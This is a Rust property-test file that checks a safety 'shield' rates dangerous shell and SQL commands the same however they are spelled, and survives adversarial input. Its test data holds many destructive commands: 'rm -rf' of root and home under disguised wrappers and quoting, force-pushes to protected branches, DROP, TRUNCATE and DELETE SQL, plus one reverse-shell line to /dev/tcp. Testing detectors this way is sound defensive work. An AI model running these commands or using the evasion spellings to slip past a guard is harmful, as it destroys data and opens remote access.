//! Properties of the shield that must hold whatever way a command is written.
//!
//! - Spelling invariance: wrappers (`sudo`, `env A=1`, `nice`, `nohup`, `timeout 5`, `command`,
//!   `exec`, `/usr/bin/env`, assignments, `bash -c`, `sh -c`, `eval`), quoting of the command name
//!   (`'rm'`, `"rm"`, `r''m`, `\rm`), its path (`/bin/rm`, `/usr/bin/rm`) and the spelling of its
//!   flags never change the verdict band of a dangerous command; the same for force-pushes to
//!   protected branches and for destructive SQL under case, comment and whitespace changes.
//! - Adversarial input (10,000 nested `$(`, 1 MB commands, 10,000 stacked SQL statements, 10,000
//!   nested parentheses) yields a finding in the approval band or above — never allow — and never
//!   panics or overflows the stack. Each runs on its own thread with Rust's default 2 MiB stack;
//!   an overflow aborts the test binary, which fails the run. No timing assertions.

use flowlink_policy::shield::{self, InputKind, ShieldConfig};
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::Config;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Band {
    Allow,
    Approve,
    Block,
}

fn band(kind: InputKind, text: &str) -> Band {
    let risk = shield::risk_of(&shield::analyze(kind, text, &ShieldConfig::default()));
    if risk >= 80 {
        Band::Block
    } else if risk >= 40 {
        Band::Approve
    } else {
        Band::Allow
    }
}

fn findings_summary(kind: InputKind, text: &str) -> String {
    let f = shield::analyze(kind, text, &ShieldConfig::default());
    f.iter()
        .map(|f| format!("{}={}", f.id, f.risk))
        .collect::<Vec<_>>()
        .join(",")
}

/// POSIX single-quoting: the text as one word, for `bash -c`, `sh -c` and `eval`.
fn squote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

fn config() -> Config {
    Config {
        cases: 256,
        failure_persistence: None,
        ..Config::default()
    }
}

// ---------------------------------------------------------------------------------------------
// Spelling invariance: rm of a protected target
// ---------------------------------------------------------------------------------------------

const RM_TARGETS: &[&str] = &[
    "/",
    "~",
    "/etc",
    "$HOME",
    "\"$HOME\"",
    "~/",
    "/*",
    "${HOME}",
];
const RM_FLAGS: &[&str] = &[
    "-rf",
    "-fr",
    "-r -f",
    "-f -r",
    "-Rf",
    "-fR",
    "-R -f",
    "--recursive --force",
    "--force --recursive",
    "-r --force",
    "-rf --",
];
const RM_NAMES: &[&str] = &[
    "rm",
    "'rm'",
    "\"rm\"",
    "r''m",
    "r\"\"m",
    "\\rm",
    "/bin/rm",
    "/usr/bin/rm",
    "'/bin/rm'",
];
/// What may come first: shell builtins and assignments (they cannot follow an external wrapper).
/// `exec` replaces the shell with the command: same effect, as long as nothing follows it.
const FIRST: &[&str] = &["", "command ", "exec ", "A=1 ", "LC_ALL=C "];
/// External wrappers that run their arguments as a command; they compose in any order.
const WRAPPERS: &[&str] = &[
    "sudo ",
    "sudo -u root ",
    "env A=1 ",
    "env ",
    "/usr/bin/env ",
    "nice ",
    "nice -n 10 ",
    "nohup ",
    "timeout 5 ",
    "timeout -s KILL 30 ",
];
/// How the whole command may be handed to a shell.
const SHELLS: &[&str] = &["", "bash -c ", "sh -c ", "eval ", "bash -lc "];

fn wrap(first: &str, wrappers: &[&str], command: &str, shell: &str) -> String {
    let inner = format!("{first}{}{command}", wrappers.concat());
    if shell.is_empty() {
        inner
    } else {
        format!("{shell}{}", squote(&inner))
    }
}

fn rm_spelling() -> impl Strategy<Value = (String, String)> {
    (
        select(RM_TARGETS),
        select(RM_FLAGS),
        select(RM_NAMES),
        select(FIRST),
        proptest::collection::vec(select(WRAPPERS), 0..=2),
        select(SHELLS),
    )
        .prop_map(|(target, flags, name, first, wrappers, shell)| {
            let canonical = format!("rm -rf {target}");
            let spelled = wrap(first, &wrappers, &format!("{name} {flags} {target}"), shell);
            (canonical, spelled)
        })
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn rm_verdict_does_not_depend_on_spelling((canonical, spelled) in rm_spelling()) {
        let want = band(InputKind::Shell, &canonical);
        let got = band(InputKind::Shell, &spelled);
        prop_assert_eq!(
            got, want,
            "`{}` is {:?} [{}] but `{}` is {:?} [{}]",
            spelled, got, findings_summary(InputKind::Shell, &spelled),
            canonical, want, findings_summary(InputKind::Shell, &canonical)
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Spelling invariance: force-push or deletion of a protected branch
// ---------------------------------------------------------------------------------------------

const BRANCHES: &[&str] = &["main", "master", "production", "prod", "release/1.0"];

fn push_spelling() -> impl Strategy<Value = (String, String)> {
    (
        select(BRANCHES),
        0usize..9,
        select(
            &[
                "",
                "command ",
                "env A=1 ",
                "GIT_TRACE=0 ",
                "nice ",
                "timeout 5 ",
            ][..],
        ),
        select(
            &[
                "git",
                "\"git\"",
                "'git'",
                "/usr/bin/git",
                "git -C .",
                "git -c color.ui=never",
            ][..],
        ),
        select(&["", "bash -c ", "sh -c ", "eval "][..]),
    )
        .prop_map(|(branch, form, first, git, shell)| {
            let canonical = format!("git push --force origin {branch}");
            let args = match form {
                0 => format!("push -f origin {branch}"),
                1 => format!("push origin {branch} --force"),
                2 => format!("push --force-with-lease origin {branch}"),
                3 => format!("push origin +{branch}"),
                4 => format!("push -f origin HEAD:{branch}"),
                5 => format!("push origin +HEAD:refs/heads/{branch}"),
                6 => format!("push --force origin {branch}:{branch}"),
                7 => format!("push -uf origin {branch}"),
                _ => format!("push origin --force {branch}"),
            };
            (canonical, wrap(first, &[], &format!("{git} {args}"), shell))
        })
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn force_push_verdict_does_not_depend_on_spelling((canonical, spelled) in push_spelling()) {
        let want = band(InputKind::Shell, &canonical);
        let got = band(InputKind::Shell, &spelled);
        prop_assert_eq!(
            got, want,
            "`{}` is {:?} [{}] but `{}` is {:?} [{}]",
            spelled, got, findings_summary(InputKind::Shell, &spelled),
            canonical, want, findings_summary(InputKind::Shell, &canonical)
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Spelling invariance: destructive SQL
// ---------------------------------------------------------------------------------------------

const SQL_SEPARATORS: &[&str] = &[
    " ",
    "  ",
    "\t",
    "\n",
    "/**/",
    " /* x */ ",
    "\r\n",
    " -- note\n",
];

fn sql_spelling() -> impl Strategy<Value = (String, String)> {
    let statements: &[&[&str]] = &[
        &["DROP", "TABLE", "users"],
        &["DROP", "TABLE", "IF", "EXISTS", "users"],
        &["TRUNCATE", "TABLE", "orders"],
        &["DELETE", "FROM", "users"],
        &["DROP", "DATABASE", "shop"],
    ];
    (
        select(statements),
        proptest::collection::vec(select(SQL_SEPARATORS), 5),
        proptest::collection::vec(any::<bool>(), 64),
        select(
            &[
                "",
                "-- cleanup\n",
                "/* routine */ ",
                "SELECT 1; ",
                "SELECT * FROM t; ",
                "BEGIN; ",
            ][..],
        ),
        select(&["", ";", " ;", ";\n", "; SELECT 1"][..]),
    )
        .prop_map(|(words, seps, upper, prefix, suffix)| {
            let canonical = words.join(" ");
            let mut spelled = String::from(prefix);
            let mut flip = upper.iter().cycle();
            for (i, word) in words.iter().enumerate() {
                if i > 0 {
                    spelled.push_str(seps[i % seps.len()]);
                }
                // Keywords in random case; the identifier (last word) as written.
                if i + 1 < words.len() {
                    for c in word.chars() {
                        let up = *flip.next().unwrap_or(&true);
                        spelled.push(if up {
                            c.to_ascii_uppercase()
                        } else {
                            c.to_ascii_lowercase()
                        });
                    }
                } else {
                    spelled.push_str(word);
                }
            }
            spelled.push_str(suffix);
            (canonical, spelled)
        })
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn destructive_sql_verdict_does_not_depend_on_spelling((canonical, spelled) in sql_spelling()) {
        let want = band(InputKind::Sql, &canonical);
        let got = band(InputKind::Sql, &spelled);
        prop_assert_eq!(
            got, want,
            "{:?} is {:?} [{}] but {:?} is {:?} [{}]",
            spelled, got, findings_summary(InputKind::Sql, &spelled),
            canonical, want, findings_summary(InputKind::Sql, &canonical)
        );
    }

    /// Arbitrary bytes never panic either analyser.
    #[test]
    fn arbitrary_text_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        let text = String::from_utf8_lossy(&bytes);
        let _ = shield::analyze(InputKind::Shell, &text, &ShieldConfig::default());
        let _ = shield::analyze(InputKind::Sql, &text, &ShieldConfig::default());
    }
}

/// The canonical forms the spelling properties compare against are themselves blocked: without
/// this, an analyser that allowed everything would satisfy every invariance property.
#[test]
fn canonical_forms_are_blocked() {
    let mut wrong = Vec::new();
    for target in RM_TARGETS {
        let c = format!("rm -rf {target}");
        if band(InputKind::Shell, &c) != Band::Block {
            wrong.push(format!(
                "shell `{c}` [{}]",
                findings_summary(InputKind::Shell, &c)
            ));
        }
    }
    for branch in BRANCHES {
        let c = format!("git push --force origin {branch}");
        if band(InputKind::Shell, &c) != Band::Block {
            wrong.push(format!(
                "shell `{c}` [{}]",
                findings_summary(InputKind::Shell, &c)
            ));
        }
    }
    for c in [
        "DROP TABLE users",
        "DROP TABLE IF EXISTS users",
        "TRUNCATE TABLE orders",
        "DELETE FROM users",
        "DROP DATABASE shop",
    ] {
        if band(InputKind::Sql, c) != Band::Block {
            wrong.push(format!(
                "sql `{c}` [{}]",
                findings_summary(InputKind::Sql, c)
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "canonical dangerous forms not blocked:\n  {}",
        wrong.join("\n  ")
    );
}

// ---------------------------------------------------------------------------------------------
// Adversarial input
// ---------------------------------------------------------------------------------------------

/// Analyses `text` on a fresh thread with Rust's default 2 MiB stack; a panic fails the test with
/// its message, a stack overflow aborts the binary (also a failure). Returns the band.
fn analyse_on_thread(name: &str, kind: InputKind, text: String) -> (Band, String) {
    let handle = std::thread::Builder::new()
        .name(name.to_owned())
        .stack_size(2 * 1024 * 1024)
        .spawn(move || {
            let findings = shield::analyze(kind, &text, &ShieldConfig::default());
            let risk = shield::risk_of(&findings);
            let ids = findings
                .iter()
                .map(|f| format!("{}={}", f.id, f.risk))
                .collect::<Vec<_>>()
                .join(",");
            (risk, ids)
        })
        .expect("spawn");
    match handle.join() {
        Ok((risk, ids)) => {
            let b = if risk >= 80 {
                Band::Block
            } else if risk >= 40 {
                Band::Approve
            } else {
                Band::Allow
            };
            (b, ids)
        }
        Err(e) => {
            let msg = e
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| e.downcast_ref::<&str>().map(|s| (*s).to_owned()))
                .unwrap_or_default();
            panic!("{name}: the analyser panicked: {msg}");
        }
    }
}

fn assert_not_allowed(name: &str, kind: InputKind, text: String) {
    let len = text.len();
    let (b, ids) = analyse_on_thread(name, kind, text);
    assert!(
        b >= Band::Approve,
        "{name} ({len} bytes) was {b:?} [{ids}]; adversarial input must never be allowed"
    );
}

#[test]
fn nested_command_substitution_10000_deep() {
    let n = 10_000;
    let text = format!("{}rm -rf /{}", "$(".repeat(n), ")".repeat(n));
    assert_not_allowed("nested $( closed", InputKind::Shell, text);
}

#[test]
fn nested_command_substitution_10000_deep_unclosed() {
    assert_not_allowed(
        "nested $( unclosed",
        InputKind::Shell,
        format!("{}rm -rf /", "$(".repeat(10_000)),
    );
}

#[test]
fn nested_subshells_10000_deep() {
    let n = 10_000;
    let text = format!("{}rm -rf ~{}", "(".repeat(n), ")".repeat(n));
    assert_not_allowed("nested subshells", InputKind::Shell, text);
}

#[test]
fn nested_backticks_and_quotes() {
    // `bash -c "bash -c \"…\""` nested many times: each level re-quotes the previous one.
    let mut cmd = String::from("rm -rf /");
    // Nested as deep as fits well under the input budget, so the depth bound is what is tested.
    for _ in 0..40 {
        let next = format!("bash -c {}", squote(&cmd));
        if next.len() > 100_000 {
            break;
        }
        cmd = next;
    }
    assert_not_allowed("nested bash -c", InputKind::Shell, cmd);
}

#[test]
fn one_megabyte_command() {
    let text = format!("echo {}", "a".repeat(1024 * 1024));
    assert_not_allowed("1 MB echo", InputKind::Shell, text);
}

#[test]
fn one_megabyte_of_commands() {
    let text = "ls; ".repeat(256 * 1024);
    assert_not_allowed("1 MB of ls;", InputKind::Shell, text);
}

#[test]
fn ten_thousand_stacked_sql_statements() {
    let text = format!("{}DROP TABLE users", "SELECT 1; ".repeat(9_999));
    assert_not_allowed("10,000 stacked statements", InputKind::Sql, text);
}

#[test]
fn ten_thousand_nested_sql_parentheses() {
    let n = 10_000;
    let text = format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n));
    assert_not_allowed("10,000 nested parentheses", InputKind::Sql, text);
}

#[test]
fn ten_thousand_unclosed_sql_parentheses() {
    assert_not_allowed(
        "10,000 unclosed parentheses",
        InputKind::Sql,
        format!("SELECT {}1", "(".repeat(10_000)),
    );
}

#[test]
fn ten_thousand_nested_sql_subqueries() {
    let n = 10_000;
    let text = format!(
        "DELETE FROM t WHERE id IN {}1{}",
        "(SELECT ".repeat(n),
        ")".repeat(n)
    );
    assert_not_allowed("10,000 nested subqueries", InputKind::Sql, text);
}

/// Found by the fuzzer: brush-parser 0.4 panics (`parse().unwrap()` on the file-descriptor number)
/// when a redirection's descriptor does not fit its integer type. The analyser must not panic.
#[test]
fn oversized_redirection_descriptor_does_not_panic() {
    for text in [
        "echo hi 99999999999999999999>&1",
        "bash -i 3333333333333333333333333333333333>& /dev/tcp/10.0.0.1/4444 0>&1",
        "cat 4294967296< /etc/hosts",
    ] {
        let _ = analyse_on_thread("oversized fd", InputKind::Shell, text.to_owned());
    }
}
